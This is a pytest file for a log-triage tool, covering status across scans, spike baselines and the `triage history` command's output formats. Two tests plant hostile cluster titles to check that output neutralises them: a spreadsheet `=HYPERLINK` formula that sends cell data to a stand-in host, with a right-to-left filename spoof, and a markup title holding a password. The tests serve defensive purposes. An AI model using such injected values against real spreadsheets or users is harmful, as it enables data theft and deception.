"""Status across scans, spikes against stored baselines, and `triage history` output."""

from __future__ import annotations

import dataclasses
import json
from datetime import datetime, timedelta, timezone

import pytest
from typer.testing import CliRunner

from triage.cli import _register, app
from triage.history import ClusterHistory, History, annotate, bucket_history, covered_hours, render_history, sparkline
from triage.model import Cluster, Occurrence, ScanResult, Severity, Window
from triage.state import StateStore

DAY0 = datetime(2026, 3, 2, tzinfo=timezone.utc)


def at(hours: float) -> datetime:
    return DAY0 + timedelta(hours=hours)


def cluster(fp: str, count: int, end: datetime, *, severity: Severity = Severity.ERROR, instance: str = "i-1",
            offset_s: float = 0.0) -> Cluster:
    """``count`` events one minute apart, ending just before ``end``."""
    times = [end - timedelta(minutes=count - k, seconds=-offset_s) for k in range(count)]
    return Cluster(
        fingerprint=fp, title=f"Failure {fp}", template=f"Failure {fp}", severity=severity, count=count,
        first_seen=times[0], last_seen=times[-1], services={"api": count}, revisions={"api-001": count}, samples=(),
        occurrences=tuple(Occurrence(t, instance, None, "api-001") for t in times),
    )


def scan_result(end: datetime, *clusters: Cluster, hours: float = 1.0) -> ScanResult:
    return ScanResult(
        window=Window(end - timedelta(hours=hours), end), sources=("test.json",), entries_read=100, entries_skipped=0,
        skipped_examples=(), entries_in_window=100, clusters=clusters, scanned_at=end,
    )


@pytest.fixture
def store(tmp_path):
    with StateStore.in_dir(tmp_path) as opened:
        yield opened


def record(store: StateStore, result: ScanResult) -> tuple[int, dict]:
    scan_id = store.record_scan(result)
    return scan_id, annotate(store, result, scan_id)


def test_new_then_recurring_then_regressed_after_its_issue_is_closed(store):
    _, first = record(store, scan_result(at(1), cluster("aaa", 3, at(1))))
    _, second = record(store, scan_result(at(2), cluster("aaa", 4, at(2))))
    store.link_issue("aaa", "org/repo", 7, "https://github.com/org/repo/issues/7", "closed")
    _, third = record(store, scan_result(at(3), cluster("aaa", 2, at(3))))
    assert [ctx["aaa"].status for ctx in (first, second, third)] == ["new", "recurring", "regressed"]
    assert first["aaa"].issue is None
    assert third["aaa"].issue == "https://github.com/org/repo/issues/7"


def test_status_goes_by_event_time_not_by_the_order_scans_were_recorded(store):
    """A rescan of the same window, or an export of an earlier hour scanned after a later one, saw nothing happen
    before its own first event: new (no baseline); the later hour scanned after the earlier one recurs."""
    _, first = record(store, scan_result(at(5), cluster("fff", 3, at(5))))
    _, rescan = record(store, scan_result(at(5.1), cluster("fff", 3, at(5))))
    _, older = record(store, scan_result(at(5.2), cluster("fff", 3, at(2))))
    _, later = record(store, scan_result(at(6), cluster("fff", 3, at(6))))
    assert [ctx["fff"].status for ctx in (first, rescan, older, later)] == ["new", "new", "new", "recurring"]
    assert (rescan["fff"].baseline_rate, older["fff"].baseline_rate) == (None, None)
    assert later["fff"].baseline_rate is not None


def test_a_rescan_of_a_spike_is_a_spike_again(store):
    """The first scan of the spiking hour saw the same events: it is no part of the rescan's baseline."""
    record(store, scan_result(at(1), cluster("spk", 1, at(1))))
    _, spike = record(store, scan_result(at(2), cluster("spk", 60, at(2))))
    _, rescan = record(store, scan_result(at(2.1), cluster("spk", 60, at(2))))
    for ctx in (spike, rescan):
        assert (ctx["spk"].status, ctx["spk"].baseline_rate, ctx["spk"].spike) == ("recurring", pytest.approx(1.0), True)


def test_a_later_export_scanned_before_is_part_of_the_baseline(store):
    """An export of day 3 recorded before one of day 2 saw other events than day 2's: not a rescan."""
    record(store, scan_result(at(1), cluster("day", 10, at(1))))
    record(store, scan_result(at(49), cluster("day", 50, at(49))))
    record(store, scan_result(at(50), cluster("other", 1, at(50))))
    day_2 = dataclasses.replace(scan_result(at(25), cluster("day", 30, at(25))), scanned_at=at(51))
    _, ctx = record(store, day_2)
    assert (ctx["day"].status, ctx["day"].baseline_rate, ctx["day"].spike) == ("recurring", pytest.approx(20.0), False)


def test_regressed_after_a_quiet_day_only_when_scans_saw_it_absent(store):
    record(store, scan_result(at(1), cluster("bbb", 3, at(1))))
    record(store, scan_result(at(2), cluster("other", 1, at(2))))
    # 30 h later: no scan in the last 24 h, so nothing says it was gone
    _, back = record(store, scan_result(at(32), cluster("bbb", 3, at(32))))
    assert back["bbb"].status == "recurring"
    record(store, scan_result(at(50), cluster("other", 1, at(50))))
    _, back_again = record(store, scan_result(at(60), cluster("bbb", 3, at(60))))  # absent at 50 h, seen at 32 h
    assert back_again["bbb"].status == "regressed"


def test_a_scan_of_a_later_period_without_it_is_no_sign_it_had_stopped(store):
    """Exports of days 1, 3 and 2 scanned in that order: day 3 lacks the failure, but it ran on from day 1 to
    day 2, so on day 2 it recurs; it did not come back."""
    def day(n: int, *clusters: Cluster, scanned: datetime) -> ScanResult:
        whole_file = Window(None, None)  # an export read whole: it covers its failures' span
        return dataclasses.replace(scan_result(at(24 * n), *clusters), window=whole_file, scanned_at=scanned)

    record(store, day(1, cluster("xxx", 3, at(24)), cluster("yyy", 3, at(24)), scanned=at(30)))
    record(store, day(3, cluster("yyy", 3, at(72)), scanned=at(80)))
    _, day2 = record(store, day(2, cluster("xxx", 3, at(48)), cluster("yyy", 3, at(48)), scanned=at(81)))
    assert day2["xxx"].status == "recurring"
    _, day4 = record(store, day(4, cluster("xxx", 3, at(96)), scanned=at(96)))  # after day 3 saw it absent
    assert day4["xxx"].status == "regressed"


@pytest.mark.parametrize(
    "scope",
    [{"services": ("web",)}, {"min_severity": Severity.CRITICAL}, {"project": "another-project"}],
)
def test_a_scan_of_another_scope_says_nothing_about_a_cluster_it_could_not_see(store, scope):
    here = {"project": "acme"}
    record(store, dataclasses.replace(scan_result(at(1), cluster("bbb", 3, at(1))), **here))
    # 30 h later a narrower scan (or one of another project) sees no "bbb": it could not have
    record(store, dataclasses.replace(scan_result(at(31), cluster("other", 2, at(31))), **{**here, **scope}))
    _, back = record(store, dataclasses.replace(scan_result(at(32), cluster("bbb", 3, at(32))), **here))
    assert back["bbb"].status == "recurring"
    assert back["bbb"].baseline_rate == pytest.approx(3.0)  # its hour is not diluted by the other scope's
    record(store, dataclasses.replace(scan_result(at(50), cluster("other", 1, at(50))), **here))  # this scope: absent
    _, back_again = record(store, dataclasses.replace(scan_result(at(60), cluster("bbb", 3, at(60))), **here))
    assert back_again["bbb"].status == "regressed"


def test_a_scan_with_a_lower_floor_or_the_clusters_service_still_counts(store):
    record(store, scan_result(at(1), cluster("bbb", 3, at(1))))
    wider = dataclasses.replace(scan_result(at(31), cluster("other", 2, at(31))), services=("api",),
                                min_severity=Severity.INFO)
    record(store, wider)  # it could have seen "bbb" (service api, floor INFO) and did not
    _, back = record(store, scan_result(at(32), cluster("bbb", 3, at(32))))
    assert back["bbb"].status == "regressed"


def test_a_request_rule_cluster_is_seen_by_scans_of_any_floor(store):
    from triage.rules import load_rules

    slow = next(rule for rule in load_rules().rules if "latency" in rule.match)
    requests = dataclasses.replace(cluster("slow", 3, at(1), severity=Severity.INFO), rule=slow)
    record(store, dataclasses.replace(scan_result(at(1), requests), min_severity=Severity.ERROR))
    # an ERROR-floor scan keeps slow requests (logged at INFO) all the same: it saw none, so they are back
    record(store, dataclasses.replace(scan_result(at(47), cluster("other", 1, at(47))), min_severity=Severity.ERROR))
    _, back = record(store, scan_result(at(48), dataclasses.replace(requests, first_seen=at(48), last_seen=at(48))))
    assert back["slow"].status == "regressed"


def test_a_scan_with_a_higher_floor_gives_no_baseline_and_no_regression(store):
    """An ERROR-floor scan counted only the errors of a cluster of warnings and errors: no share of its baseline
    (the next scan at the WARNING floor was a x30 "spike"), and its absence says nothing (no false regression)."""
    record(store, dataclasses.replace(scan_result(at(1), cluster("mix", 2, at(1))), min_severity=Severity.ERROR))
    _, again = record(store, scan_result(at(2.5), cluster("mix", 60, at(2.5), severity=Severity.ERROR)))
    assert (again["mix"].status, again["mix"].baseline_rate, again["mix"].spike) == ("recurring", None, False)
    record(store, dataclasses.replace(scan_result(at(40), cluster("other", 1, at(40))), min_severity=Severity.ERROR))
    _, later = record(store, scan_result(at(41), cluster("mix", 60, at(41), severity=Severity.ERROR)))
    assert later["mix"].status == "recurring"


def test_a_scan_with_a_higher_floor_still_counts_for_a_cluster_all_above_it(store):
    """Hourly ERROR-floor scans saw every event of a cluster made only of errors: they are its baseline."""
    for hour in range(1, 25):
        only_errors = dataclasses.replace(cluster("err", 2, at(hour)), least_severity=Severity.ERROR)
        record(store, dataclasses.replace(scan_result(at(hour), only_errors), min_severity=Severity.ERROR))
    burst = dataclasses.replace(cluster("err", 60, at(25)), least_severity=Severity.ERROR)
    mixed = dataclasses.replace(burst, least_severity=Severity.WARNING)  # some of its events were below ERROR
    assert annotate(store, scan_result(at(25), mixed))["err"].baseline_rate is None
    _, now = record(store, scan_result(at(25), burst))
    assert (now["err"].baseline_rate, now["err"].spike) == (pytest.approx(2.0), True)


def test_a_failure_another_project_had_is_new_in_this_one(store):
    record(store, dataclasses.replace(scan_result(at(1), cluster("ccc", 3, at(1))), project="proj-a"))
    _, other = record(store, dataclasses.replace(scan_result(at(2), cluster("ccc", 3, at(2))), project="proj-b"))
    _, unnamed = record(store, scan_result(at(3), cluster("ccc", 3, at(3))))
    _, again = record(store, dataclasses.replace(scan_result(at(4), cluster("ccc", 3, at(4))), project="proj-b"))
    assert [ctx["ccc"].status for ctx in (other, unnamed, again)] == ["new", "recurring", "recurring"]


def test_a_truncated_scan_covers_the_entries_it_kept_and_gives_no_baseline(store):
    """--max-entries kept the newest 15 minutes of an hour: its rate is over those (not the hour, not from its first
    failure), and a full scan of the next hour is no spike against it."""
    kept = dataclasses.replace(scan_result(at(1), cluster("ddd", 10, at(1))), truncated=True,
                               entries_span=Window(at(1) - timedelta(minutes=15), at(1)))
    _, first = record(store, kept)
    assert first["ddd"].rate == pytest.approx(40.0)  # 10 events in the 15 minutes kept
    _, full = record(store, scan_result(at(2), cluster("ddd", 60, at(2))))
    assert (full["ddd"].status, full["ddd"].baseline_rate, full["ddd"].spike) == ("recurring", None, False)


def test_a_file_read_from_a_start_covers_up_to_its_last_failure_not_the_scan_time(store):
    """An export of an earlier day read with --from (no --until): the time since its last entry is not covered."""
    day_old = cluster("eee", 12, at(1.5))
    _, first = record(store, dataclasses.replace(scan_result(at(48), day_old), window=Window(at(0), None)))
    assert first["eee"].rate == pytest.approx(12 / 1.5, rel=0.02)
    pulled = dataclasses.replace(scan_result(at(48), day_old), window=Window(at(0), None), sources=("gcp:acme",))
    assert annotate(store, pulled)["eee"].rate == pytest.approx(12 / 48)  # a pull runs up to the scan time


def test_a_quiet_cloud_logging_scan_still_names_its_project():
    from triage.rules import load_rules
    from triage.scan import ScanOptions, scan

    result = scan(ScanOptions(("gcp:acme-prod",)), load_rules(), lambda spec: iter(()))
    assert (result.clusters, result.project) == ((), "acme-prod")  # so it says nothing of another project's clusters


def test_annotating_before_recording_sees_the_same_history(store):
    record(store, scan_result(at(1), cluster("aaa", 3, at(1))))
    result = scan_result(at(2), cluster("aaa", 4, at(2)), cluster("new", 1, at(2)))
    before = annotate(store, result)
    scan_id = store.record_scan(result)
    assert annotate(store, result, scan_id) == before
    assert before["new"].status == "new" and before["aaa"].status == "recurring"


def test_spike_against_the_baseline_of_earlier_scans(store):
    for hour in range(1, 11):  # ten one-hour scans with 2 events each: baseline 2/h
        record(store, scan_result(at(hour), cluster("ccc", 2, at(hour)), cluster("steady", 5, at(hour))))
    _, now = record(store, scan_result(at(11), cluster("ccc", 30, at(11)), cluster("steady", 6, at(11)),
                                       cluster("fresh", 50, at(11))))
    assert now["ccc"].spike and now["ccc"].rate == 30.0 and now["ccc"].baseline_rate == 2.0
    assert not now["steady"].spike and now["steady"].baseline_rate == 5.0
    assert not now["fresh"].spike and now["fresh"].baseline_rate is None and now["fresh"].rate == 50.0


def test_incident_ids_reach_the_cluster_context(store):
    root = cluster("root", 5, at(1))
    symptom = cluster("symptom", 5, at(1), offset_s=0.5)
    lone = cluster("lone", 5, at(1), instance="i-9")
    _, ctx = record(store, scan_result(at(1), root, symptom, lone))
    assert ctx["root"].incident is not None and ctx["root"].incident == ctx["symptom"].incident
    assert ctx["root"].incident.startswith("inc-")
    assert ctx["lone"].incident is None


def test_covered_hours_of_open_windows():
    first, last = at(1), at(3)
    assert covered_hours(Window(at(0), at(2)), at(5), first, last) == 2.0
    assert covered_hours(Window(None, None), at(5), first, last) == 2.0  # a whole file: first to last failure
    assert covered_hours(Window(at(0), None), at(5), first, last, live=True) == 5.0  # --from, a pull: up to now
    assert covered_hours(Window(at(0), None), at(5), first, last) == 3.0  # --from, a file: up to its last failure
    assert covered_hours(Window(at(0), at(5)), at(5), first, last, kept=Window(at(2), at(5))) == 3.0  # the newest kept
    assert covered_hours(Window(None, None), at(5), first, last, kept=Window(at(0.5), at(4))) == 3.5  # a cut file
    assert covered_hours(Window(None, None), at(5), None, None) == 0.0


def test_a_span_shorter_than_a_minute_counts_as_one_minute():
    assert covered_hours(Window(None, None), at(5), at(1), at(1)) == 1 / 60  # every failure at one instant
    assert covered_hours(Window(at(0), at(0) + timedelta(seconds=0.5)), at(5), None, None) == 1 / 60


def test_sparkline_scales_to_the_largest_bucket_and_marks_absence():
    assert sparkline([0, 1, 2, 3, 4, 5, 6, 7, 8]) == " ▁▂▃▄▅▆▇█"
    assert sparkline([0, 100, 1]) == " █▁"
    assert sparkline([0, 0]) == "  "


def test_bucket_history_sums_scans_per_hour(store):
    record(store, scan_result(at(1.2), cluster("aaa", 3, at(1.2))))
    record(store, scan_result(at(1.7), cluster("aaa", 4, at(1.7)), cluster("bbb", 1, at(1.7))))
    record(store, scan_result(at(3.5), cluster("bbb", 2, at(3.5))))
    history = bucket_history(store.cluster_history(None, at(0)), at(0), at(4))
    assert history.bucket == "hour"
    assert history.buckets == tuple(at(h) for h in range(5))
    assert [(c.fingerprint, c.scans, c.total, c.counts) for c in history.clusters] == [
        ("aaa", 2, 7, (0, 7, 0, 0, 0)),
        ("bbb", 2, 3, (0, 1, 0, 2, 0)),
    ]
    assert bucket_history(store.cluster_history(None, at(0)), at(0), at(24 * 7)).bucket == "day"


def test_history_shows_the_title_of_its_largest_scan_and_the_highest_severity_of_the_span(store):
    def seen(title: str, count: int, hours: float, severity: Severity) -> Cluster:
        return dataclasses.replace(cluster("aaa", count, at(hours), severity=severity), title=title)

    record(store, scan_result(at(1.2), seen("GET /api/a → 404", 5, 1.2, Severity.ERROR)))
    record(store, scan_result(at(1.5), seen("GET /api/b → 404", 5, 1.5, Severity.ERROR)))
    record(store, scan_result(at(1.7), seen("GET /.git/config → 404", 1, 1.7, Severity.WARNING)))
    (shown,) = bucket_history(store.cluster_history(None, at(0)), at(0), at(2)).clusters
    assert (shown.title, shown.severity, shown.total) == ("GET /api/b → 404", "ERROR", 11)  # a tie: the newer


def _cli(*args: str):
    _register()
    return CliRunner().invoke(app, ["history", *args])


def test_history_command_json_is_exact(tmp_path, store):
    record(store, scan_result(at(1.2), cluster("aaa111", 3, at(1.2))))
    record(store, scan_result(at(2.5), cluster("aaa111", 4, at(2.5)), cluster("bbb222", 1, at(2.5))))
    result = _cli("--since", "3h", "--now", "2026-03-02T03:00:00Z", "--format", "json", "--state-dir", str(tmp_path))
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {
        "since": "2026-03-02T00:00:00Z",
        "until": "2026-03-02T03:00:00Z",
        "bucket": "hour",
        "buckets": ["2026-03-02T01:00:00Z", "2026-03-02T02:00:00Z", "2026-03-02T03:00:00Z"],  # from the first scan
        "clusters": [
            {"fingerprint": "aaa111", "title": "Failure aaa111", "rule": None, "severity": "ERROR", "scans": 2,
             "total": 7, "first_seen": "2026-03-02T01:09:00Z", "last_seen": "2026-03-02T02:29:00Z",
             "counts": [3, 4, 0]},
            {"fingerprint": "bbb222", "title": "Failure bbb222", "rule": None, "severity": "ERROR", "scans": 1,
             "total": 1, "first_seen": "2026-03-02T02:29:00Z", "last_seen": "2026-03-02T02:29:00Z",
             "counts": [0, 1, 0]},
        ],
    }


def test_history_command_refuses_a_blank_fingerprint(tmp_path, store):
    record(store, scan_result(at(1.2), cluster("aaa111", 3, at(1.2))))
    result = _cli("  ", "--state-dir", str(tmp_path))
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == "Error: FINGERPRINT is blank: give a fingerprint or its start, or none for every cluster\n"


def test_history_command_table_csv_and_prefix(tmp_path, store):
    record(store, scan_result(at(1.2), cluster("aaa111", 3, at(1.2))))
    record(store, scan_result(at(2.5), cluster("aaa111", 6, at(2.5)), cluster("bbb222", 1, at(2.5))))
    common = ["--since", "3h", "--now", "2026-03-02T03:00:00Z", "--state-dir", str(tmp_path)]
    table = _cli("aaa", *common)
    assert table.exit_code == 0, table.output
    assert "aaa111" in table.stdout and "bbb222" not in table.stdout
    assert " ▄█ " in table.stdout  # counts 3, 6, 0
    csv_out = _cli("bbb", *common, "--format", "csv")
    assert csv_out.stdout.splitlines() == [
        "fingerprint,bucket,count,title",
        "bbb222,2026-03-02T01:00:00Z,0,Failure bbb222",  # from the first scan of the store, not of bbb222
        "bbb222,2026-03-02T02:00:00Z,1,Failure bbb222",
        "bbb222,2026-03-02T03:00:00Z,0,Failure bbb222",
    ]


def test_history_csv_and_table_neutralise_hostile_titles(tmp_path, store):
    hostile = dataclasses.replace(cluster("ccc333", 2, at(1.2)), title='=HYPERLINK("http://x/?"&A1)\u202e gnp.exe')
    record(store, scan_result(at(1.2), hostile))
    common = ["--since", "3h", "--now", "2026-03-02T03:00:00Z", "--state-dir", str(tmp_path)]
    rows = _cli(*common, "--format", "csv").stdout.splitlines()[1:]
    assert rows and all(row.endswith(',"\'=HYPERLINK(""http://x/?""&A1) gnp.exe"') for row in rows)
    table = _cli(*common).stdout
    assert "=HYPERLINK" in table and "\u202e" not in table


def test_buckets_start_at_the_first_recorded_scan_and_the_table_fits_80_columns(tmp_path, store):
    for hour in range(0, 48, 3):
        record(store, scan_result(at(hour + 0.5), cluster("aaa111", hour + 1, at(hour + 0.5))))
    common = ["--now", "2026-03-04T00:00:00Z", "--state-dir", str(tmp_path)]
    far = json.loads(_cli("--since", "100000w", *common, "--format", "json").stdout)
    assert far["buckets"] == ["2026-03-02T00:00:00Z", "2026-03-03T00:00:00Z", "2026-03-04T00:00:00Z"]
    hourly = _cli("--since", "48h", *common)
    lines = hourly.stdout.splitlines()
    assert lines[:2] == ["History 2026-03-02T00:00:00Z → 2026-03-04T00:00:00Z",
                         "49 hourly buckets, 3 per trend character; 1 cluster"]
    assert max(map(len, lines)) <= 80
    [row] = [line for line in lines if line.startswith("aaa111")]
    assert row.split()[1:3] == ["16", "376"] and "█" in row  # 1 + 4 + … + 46 events in 16 scans


def test_a_steady_failure_ends_its_grouped_trend_as_steady_as_it_ran():
    buckets = tuple(at(h) for h in range(49))
    steady = ClusterHistory("aaa111", "Failure", None, "ERROR", 49, 490, at(0), at(48), (10,) * 49)
    table = render_history(History(at(0), at(48), "hour", buckets, (steady,)), "table", 80)
    [row] = [line for line in table.splitlines() if line.startswith("aaa111")]
    assert row.split()[3] == "▃" + "█" * 16  # 49 buckets, 3 a character: the oldest group holds only one


def test_history_command_errors_are_one_line(tmp_path):
    missing = _cli("--state-dir", str(tmp_path / "none"))
    assert missing.exit_code == 2 and "Error: no scan recorded in" in missing.output
    assert "Traceback" not in missing.output
    assert _cli("--format", "xml", "--state-dir", str(tmp_path)).exit_code == 2
    assert "Error: --since: invalid duration 'soon'" in _cli("--since", "soon", "--state-dir", str(tmp_path)).output


def test_history_command_unknown_prefix(tmp_path, store):
    record(store, scan_result(at(1), cluster("aaa111", 3, at(1))))
    result = _cli("zzz", "--since", "2h", "--now", "2026-03-02T02:00:00Z", "--state-dir", str(tmp_path))
    assert result.exit_code == 2
    assert "no recorded scan since 2h has a cluster with a fingerprint starting with 'zzz'" in result.output


def test_history_titles_are_redacted_and_never_read_as_markup(tmp_path, store):
    hostile = dataclasses.replace(cluster("ccc333", 2, at(1)), title="[bold]login[/oops] failed password=hunter2")
    record(store, scan_result(at(1), hostile))
    common = ["--since", "2h", "--now", "2026-03-02T02:00:00Z", "--state-dir", str(tmp_path)]
    for fmt in ("table", "json", "csv"):
        result = _cli(*common, "--format", fmt)
        assert result.exit_code == 0, result.output
        assert "hunter2" not in result.stdout
    assert "[bold]login[/oops]" in _cli(*common, "--format", "table").stdout.replace("\n", "")


def test_history_since_before_year_one_is_one_line(tmp_path, store):
    result = _cli("--since", "800000d", "--state-dir", str(tmp_path))
    assert result.exit_code == 2 and result.stderr.startswith("Error: the window reaches back before year 1")


def test_a_closed_issue_means_regressed_only_for_events_after_it_was_closed(store):
    record(store, scan_result(at(1), cluster("aaa", 3, at(1))))
    store.link_issue("aaa", "org/repo", 7, "https://github.com/org/repo/issues/7", "closed", closed_at=at(5))
    _, before_closing = record(store, scan_result(at(2), cluster("aaa", 2, at(2))))
    _, after_closing = record(store, scan_result(at(6), cluster("aaa", 2, at(6))))
    assert (before_closing["aaa"].status, after_closing["aaa"].status) == ("recurring", "regressed")


def test_history_empty_now_is_an_error(tmp_path, store):
    result = _cli("--now", "", "--state-dir", str(tmp_path))
    assert (result.exit_code, result.stderr) == (2, "Error: --now: empty value\n")
